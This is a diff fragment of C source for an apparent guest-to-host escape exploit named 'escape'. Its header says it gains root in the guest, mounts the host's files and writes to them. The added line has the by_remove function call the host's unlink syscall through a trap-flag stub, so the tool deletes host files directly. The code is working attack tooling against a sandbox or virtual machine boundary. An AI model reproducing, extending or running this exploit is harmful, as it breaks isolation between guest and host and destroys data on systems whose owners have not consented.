@@ -4,7 +4,7 @@
  *
  *	escape memory FILE	maps the guest's memory, becomes root of the guest with all capabilities,
  *				mounts the host's files and appends to FILE
- *	escape remove FILE	removes FILE by a system call of the host for 32-bit programs
+ *	escape remove FILE	removes FILE by a system call of the host, and then by that for 32-bit programs
  *
  * A stub may call the host from its own page only. That page is readable: it holds a "syscall". The program
  * goes there with the trap flag set, so that it gets a SIGTRAP, and control, after that one instruction.
@@ -104,6 +104,7 @@ static int by_remove(const char *path)
 	long result;
 
 	strcpy(low, path);
+	call_host(SYS_unlink, (long)low, 0, 0, 0, 0, 0, find(0x0f, 0x05));
 	result = call_host(SYS_mprotect, (long)STUB, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, 0, 0, 0, find(0x0f, 0x05));
 	if (result) {
 		printf("refused: mprotect %ld\n", result);
